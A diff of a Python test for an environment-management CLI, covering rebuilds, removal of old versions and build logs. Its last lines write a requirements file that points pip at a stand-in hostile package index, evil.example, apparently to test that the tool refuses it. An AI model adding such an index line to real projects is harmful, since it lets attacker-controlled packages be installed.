@@ -511,12 +511,17 @@ def test_cli(manager, tmp_path, capsys):
 
     assert main(["env", "update", "cli", "--audience", f"course:{COURSE}", *where]) == 0
     assert capsys.readouterr().out == "cli: declaration updated\n"
+    # a new version; the old one goes at once, as no process uses it
+    assert main(["env", "update", "cli", "--rebuild", "-q", *where]) == 0
+    assert capsys.readouterr().out == "cli: version 3 built and in force\ncli: removed versions 1\n"
+    assert main(["env", "remove", "cli", "--old-versions", *where]) == 0
+    assert capsys.readouterr().out == "cli: no old versions\n"
     assert main(["env", "list", "--json", *where]) == 0
     [record] = [r for r in json.loads(capsys.readouterr().out) if r["name"] == "cli"]
-    assert record["current"] == 1 and record["audience"] == [f"course:{COURSE}"]
-    assert [v["version"] for v in record["versions"]] == [1]
-    assert main(["env", "show", "cli", "--log", *where]) == 0
-    assert "unsatisfiable" in capsys.readouterr().out  # the latest build's log: the failed one
+    assert record["current"] == 3 and record["audience"] == [f"course:{COURSE}"]
+    assert [v["version"] for v in record["versions"]] == [3]
+    assert main(["env", "show", "cli", "--log", "2", *where]) == 0
+    assert "unsatisfiable" in capsys.readouterr().out  # the failed build's log
 
     bad = tmp_path / "requirements.txt"
     bad.write_text("six\n--extra-index-url https://evil.example/simple\n")
